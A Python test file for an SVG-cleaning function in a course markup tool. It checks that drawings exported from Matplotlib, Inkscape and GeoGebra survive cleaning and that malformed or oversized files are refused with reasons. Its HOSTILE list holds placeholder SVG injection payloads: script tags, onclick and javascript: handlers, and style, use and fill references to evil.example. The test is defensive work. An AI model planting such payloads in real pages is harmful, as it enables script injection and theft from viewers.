"""Drawings of other programs: accepted after cleaning, refused with a reason, and never expensive."""

import io
import re

import pytest

from course.markup import Asset, Setting, UnfitDrawing, cleaned_drawing, render_page

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120.4 80"'
INKSCAPE = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
{HEAD} width="120mm" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.4"
 xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd">
<sodipodi:namedview id="view" pagecolor="#ffffff"/><defs><linearGradient id="g"><stop offset="0" style="stop-color:#123"/>
</linearGradient></defs><g inkscape:label="Layer 1"><rect width="9" height="9" style="fill:url(#g);stroke:#000"/></g></svg>"""
GEOGEBRA = f"""<?xml version="1.0" encoding="ISO-8859-1" standalone="no"?>
{HEAD} fill-opacity="1" color-rendering="auto"><g><clipPath id="clip"><path d="M0 0 L9 0 L9 9 Z"/></clipPath>
<path clip-path="url(#clip)" d="M1 1 L5 5" fill="none" stroke="rgb(21,101,192)"/><text x="4" y="4">A</text></g></svg>"""
HOSTILE = [
    "<script>steal()</script>",
    '<rect width="1" height="1" onclick="steal()"/>',
    '<a href="javascript:steal()"><rect width="1" height="1"/></a>',
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:steal()"></iframe></foreignObject>',
    '<style>@import "https://evil.example/steal()";</style>',
    '<use href="https://evil.example/steal()#a"/>',
    '<set attributeName="onclick" to="steal()"/>',
    '<rect style="fill:url(https://evil.example/steal())"/>',
]


def plot_of_matplotlib() -> str:
    from matplotlib.figure import Figure

    figure = Figure(figsize=(3, 2))
    figure.subplots().plot([1, 2, 3], [1, 4, 9])
    file = io.StringIO()
    figure.savefig(file, format="svg")
    return file.getvalue()


def page_with(source: str, options: str = ""):
    asset = Asset(svg=source, url="/files/My%20plot.svg")
    return render_page(f"![A plot.](<My plot.svg>){options}", Setting(find_asset={"My%20plot.svg": asset}.get))


@pytest.mark.parametrize("source", [plot_of_matplotlib, lambda: INKSCAPE, lambda: GEOGEBRA], ids=["plot", "ink", "geo"])
def test_a_drawing_of_another_program_is_a_picture_with_its_size(source):
    page = page_with(source())
    assert page.problems == ()
    assert re.search(
        r'<img src="/files/My%20plot.svg" alt="A plot." width="\d+" height="\d+" loading="lazy"', page.html
    )


def test_cleaning_keeps_the_drawing():
    cleaned = cleaned_drawing(plot_of_matplotlib().encode()).decode()
    assert cleaned.count("<path") == plot_of_matplotlib().count("<path")
    assert "<use" in cleaned
    assert "rgb(21,101,192)" in cleaned_drawing(GEOGEBRA.encode()).decode()
    assert "fill:url(#g)" in cleaned_drawing(INKSCAPE.encode()).decode().replace(" ", "")


@pytest.mark.parametrize("part", HOSTILE)
def test_nothing_that_runs_or_loads_is_left(part):
    cleaned = cleaned_drawing(f'{HEAD}><path d="M0 0"/>{part}</svg>'.encode()).decode()
    assert "<path" in cleaned
    assert not re.search(r"<script|javascript:|onclick=|iframe|://evil|@import", cleaned)


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("", "is not well-formed"),
        ("<svg>", "is not well-formed"),
        ("<html/>", "does not begin with <svg xmlns=…>"),
        ('<svg xmlns="http://www.w3.org/2000/svg" width="3"><style/></svg>', "has no viewBox, so it cannot be scaled"),
        (f"{HEAD}>{'<g>' * 200_000}", "has more than 100 elements within each other"),
        (f"{HEAD}><style/>{'<g/>' * 100_000}</svg>", "has more than 100,000 elements"),
        (f'<!DOCTYPE svg [<!ENTITY a "b">]>{HEAD}>&a;</svg>', "declares entities"),
        (HEAD.replace("120.4", "0") + "><style/></svg>", "has a viewBox without a size"),
        (HEAD.replace("120.4", "nan") + "><style/></svg>", "has a viewBox without a size"),
    ],
)
def test_an_unfit_drawing_is_refused_with_the_reason(source, reason):
    with pytest.raises(UnfitDrawing, match=reason):
        cleaned_drawing(source.encode())
    if source:
        assert f"the SVG file {reason}" in page_with(source).problems[0].text


def test_an_interactive_figure_needs_a_drawing_that_follows_the_theme():
    texts = [problem.text for problem in page_with(GEOGEBRA, '{#a interactive="a.yaml"}').problems]
    assert any("which a figure cannot have" in text for text in texts)
